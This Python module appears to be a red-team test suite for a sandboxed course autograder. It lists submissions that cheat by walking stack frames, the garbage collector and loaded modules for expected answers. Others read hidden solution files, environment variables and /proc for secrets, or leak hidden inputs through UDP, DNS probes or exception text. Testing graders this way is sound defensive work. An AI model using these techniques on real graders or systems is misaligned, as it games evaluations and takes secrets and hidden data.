"""Answers that look for the expected values, or carry the hidden inputs away."""

from __future__ import annotations

from ..attack import Attack, answer, prize

# Runs whatever defines `strided_timesteps` in a text, and takes it for the answer.
_RUN = """
def run(text):
    space = {"list": list, "range": range, "Tensor": object}
    try:
        wanted = text[text.index("def strided_timesteps"):]
        wanted = wanted[:wanted.index("\\n\\n\\n")]
        exec(compile(wanted, "stolen", "exec"), space)
        return space["strided_timesteps"]
    except Exception:
        return None
"""

ATTACKS = (
    Attack(
        "callers-frames",
        "a1_4_timesteps",
        "Walks the callers' frames to a local named expected, right or reference.",
        answer("""
        import sys

        def strided_timesteps(start=990, stride=30):
            frame = sys._getframe()
            while frame is not None:
                for name in ("expected", "right", "reference", "solution"):
                    found = frame.f_locals.get(name)
                    if isinstance(found, list):
                        return found
                frame = frame.f_back
            return []
        """),
    ),
    Attack(
        "traceback-frames",
        "b2_2_schedule",
        "Raises, catches itself and walks the traceback's frames to the expected tables.",
        answer("""
        def ddpm_schedule(beta1, beta2, num_ts):
            try:
                raise ValueError
            except ValueError as error:
                frame = error.__traceback__.tb_frame
            while frame is not None:
                for value in list(frame.f_locals.values()):
                    if isinstance(value, dict) and "alpha_bars" in value:
                        return value
                frame = frame.f_back
            return {}
        """),
    ),
    Attack(
        "garbage-collector",
        "a1_4_timesteps",
        "Asks the garbage collector for a function of the same name that is not its own.",
        answer("""
        import gc

        def strided_timesteps(start=990, stride=30):
            own = strided_timesteps.__code__
            for thing in gc.get_objects():
                if type(thing) is type(strided_timesteps) and thing.__code__ is not own:
                    if thing.__name__ in ("strided_timesteps", "expected"):
                        return thing(start, stride)
            return []
        """),
    ),
    Attack(
        "gc-tensors",
        "a1_2_classical",
        "Takes a tensor of the garbage collector's that has the picture's shape and is another.",
        answer("""
        import gc

        def classical_denoise(im_noisy, kernel_size=5, sigma=2.0):
            for thing in gc.get_objects():
                if isinstance(thing, dict) and isinstance(thing.get("expected"), Tensor):
                    return thing["expected"]
            return im_noisy
        """),
        earns=("shape",),
    ),
    Attack(
        "inspect-stack",
        "a1_4_timesteps",
        "Reads the callers' globals by inspect.stack, for a function of the reference.",
        answer("""
        import inspect

        def strided_timesteps(start=990, stride=30):
            for info in inspect.stack(context=0):
                for name in ("reference", "solution", "expected", "solution_source"):
                    for space in (info.frame.f_locals, info.frame.f_globals):
                        found = space.get(name)
                        if callable(found) and found is not strided_timesteps:
                            return found(start, stride)
            return []
        """),
    ),
    Attack(
        "linecache",
        "a1_4_timesteps",
        "Reads the source of every loaded module by linecache, and runs what defines its function.",
        answer(
            _RUN
            + """
def strided_timesteps(start=990, stride=30):
    import linecache, sys
    for module in list(sys.modules.values()):
        file = getattr(module, "__file__", None) or ""
        if file.endswith(".py") and ("sampling" in file or "checks" in file):
            found = run("".join(linecache.getlines(file)))
            if found:
                return found(start, stride)
    return []
"""
        ),
    ),
    Attack(
        "loaded-modules",
        "b2_2_schedule",
        "Looks through sys.modules for another ddpm_schedule.",
        answer("""
        import sys

        def ddpm_schedule(beta1, beta2, num_ts):
            for name, module in list(sys.modules.items()):
                found = getattr(module, "ddpm_schedule", None)
                if callable(found) and found is not ddpm_schedule and name != "__main__":
                    return found(beta1, beta2, num_ts)
            return {}
        """),
    ),
    Attack(
        "imports-the-reference",
        "b2_2_schedule",
        "Adds every parent of every path of Python to the path, and imports solutions.",
        answer("""
        import importlib, sys
        from pathlib import Path

        def ddpm_schedule(beta1, beta2, num_ts):
            parents = {str(p) for path in sys.path for p in Path(path).parents}
            sys.path[:] = [*sys.path, *sorted(parents)]
            try:
                return importlib.import_module("solutions.ddpm").ddpm_schedule(beta1, beta2, num_ts)
            except Exception:
                return {}
        """),
        stopped_by="strict",
    ),
    Attack(
        "reads-the-reference",
        "a1_4_timesteps",
        "Searches the folders above the worker's for the solutions' source, and runs it.",
        answer(
            _RUN
            + """
def strided_timesteps(start=990, stride=30):
    import sys
    from pathlib import Path
    for path in sys.path:
        for parent in Path(path).parents:
            for file in (parent / "solutions").glob("*.py"):
                found = run(file.read_text())
                if found:
                    return found(start, stride)
    return []
"""
        ),
        stopped_by="strict",
    ),
    Attack(
        "compiled-files",
        "a1_4_timesteps",
        "Unmarshals .pyc files above the worker's folder, for the code of its function.",
        answer("""
        import marshal, sys, types
        from pathlib import Path

        def codes(code):
            yield code
            for part in code.co_consts:
                if isinstance(part, types.CodeType):
                    yield from codes(part)

        def strided_timesteps(start=990, stride=30):
            for path in sys.path:
                for parent in Path(path).parents:
                    for file in (parent / "solutions").rglob("sampling*.pyc"):
                        for code in codes(marshal.loads(file.read_bytes()[16:])):
                            if code.co_name == "strided_timesteps":
                                return types.FunctionType(code, {"range": range})(start, stride)
            return []
        """),
        stopped_by="strict",
    ),
    Attack(
        "grader-files",
        "a1_4_timesteps",
        "Reads the answers from a file in the grader's folder, whose path it knows.",
        prize("""
        import json
        return json.load(open("@CANARY@/answers.json"))
        """),
        stopped_by="strict",
    ),
    Attack(
        "working-folder",
        "a1_4_timesteps",
        "Looks for answers, keys and solutions in the working folder, above it and in /tmp.",
        prize("""
        from pathlib import Path
        places = [Path.cwd(), *Path.cwd().parents, Path("/tmp"), Path.home()]
        names = ("answers*", "solution*", "expected*", "*.key", "gradebook*", "exercises.toml")
        return any(next(p.glob(n), None) for p in places for n in names)
        """),
        stopped_by="strict",
    ),
    Attack(
        "environment-variables",
        "a1_4_timesteps",
        "Searches its own environment for tokens, keys and answers.",
        prize("""
        import os
        words = ("TOKEN", "SECRET", "KEY", "ANSWER", "GITHUB", "GRADE")
        return any(word in name for name in os.environ for word in words)
        """),
    ),
    Attack(
        "proc-environ",
        "a1_4_timesteps",
        "Reads every process's environment under /proc for the grader's secrets.",
        prize("""
        from pathlib import Path
        for file in Path("/proc").glob("[0-9]*/environ"):
            try:
                if b"COURSE_SECRET=" in file.read_bytes():
                    return True
            except OSError:
                pass
        return False
        """),
        stopped_by="strict",
    ),
    Attack(
        "proc-memory",
        "a1_4_timesteps",
        "Opens the memory of the processes that are not its own, to search them.",
        prize("""
        import os
        from pathlib import Path
        for folder in Path("/proc").glob("[0-9]*"):
            if int(folder.name) in (1, os.getpid()):
                continue
            try:
                with (folder / "mem").open("rb"):
                    if b"torch" in (folder / "maps").read_bytes():
                        return True
            except OSError:
                pass
        return False
        """),
        stopped_by="strict",
    ),
    Attack(
        "proc-descriptors",
        "a1_4_timesteps",
        "Opens what the processes above it hold open, by /proc/<pid>/fd.",
        prize("""
        import os
        from pathlib import Path
        own = str(os.getpid())
        for link in Path("/proc").glob("[0-9]*/fd/*"):
            try:
                target = os.readlink(link)
                if link.parts[2] != own and target != "/dev/null":
                    os.close(os.open(link, os.O_RDWR | os.O_NONBLOCK))
                    return True
            except OSError:
                pass
        return False
        """),
        stopped_by="strict",
    ),
    Attack(
        "notebook-history",
        "a1_4_timesteps",
        "Reads In, Out and IPython's history for the instructor's cells.",
        prize("""
        import builtins
        from pathlib import Path
        if any(name in globals() for name in ("In", "Out", "_ih", "_oh", "get_ipython")):
            return True
        if hasattr(builtins, "get_ipython"):
            return True
        return any(Path.home().glob(".ipython/**/history.sqlite"))
        """),
    ),
    Attack(
        "local-network",
        "a1_4_timesteps",
        "Asks a server on the grader's host, or outside, for the answer.",
        prize("""
        import json, socket
        with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as s:
            return json.loads(s.makefile().readline())
        """),
        stopped_by="strict",
    ),
    Attack(
        "hidden-inputs-by-udp",
        "a1_4_timesteps",
        "Sends the hidden inputs away in datagrams.",
        prize("""
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        return s.sendto(b"@MARKER@", ("127.0.0.1", @PORT@)) > 0
        """),
        stopped_by="strict",
    ),
    Attack(
        "name-server",
        "a1_4_timesteps",
        "Finds a way out by resolving names and by looking for an interface that is up.",
        prize("""
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for address in ("1.1.1.1", "8.8.8.8", "127.0.0.1"):
            try:
                s.connect((address, 53))
                return True
            except OSError:
                pass
        return False
        """),
        stopped_by="strict",
    ),
    Attack(
        "inputs-in-the-message",
        "a1_1_forward",
        "Raises an error whose text holds the hidden inputs.",
        answer("""
        def forward(im, t, alphas_cumprod):
            raise ValueError(f"@MARKER@ {t} {im.flatten()[:20].tolist()}")
        """),
        forbidden=("500 [",),
    ),
    Attack(
        "inputs-in-the-class-name",
        "a1_1_forward",
        "Raises an exception of a class that is named after the hidden inputs.",
        answer("""
        def forward(im, t, alphas_cumprod):
            raise type(f"@MARKER@_{t}", (Exception,), {})()
        """),
    ),
    Attack(
        "inputs-in-the-line-number",
        "a1_1_forward",
        "Raises at a line of the answer whose number it chose, to spell the hidden inputs.",
        answer("""
        def forward(im, t, alphas_cumprod):
            code = compile("raise ValueError", "<answer>", "exec")
            exec(code.replace(co_firstlineno=77_770_000 + t))
        """),
        forbidden=("7777", "77,77"),
    ),
    Attack(
        "served-objects",
        "a1_3_one_step",
        "Calls what the served pipeline does not offer, by the proxy's own link.",
        answer("""
        def one_step_denoise(stage_1, im_noisy, t, prompt_embeds):
            link, number = stage_1._link, stage_1._spec.number
            for method in ("predict", "calls", "__dict__", "log_variance", "noise", "spec"):
                for other in (number, number - 16, 0):
                    try:
                        found = link.callback(other, method, (im_noisy[0], t, prompt_embeds[0]), {})
                    except Exception:
                        continue
                    return found
            raise LookupError("nothing to steal")
        """),
    ),
)
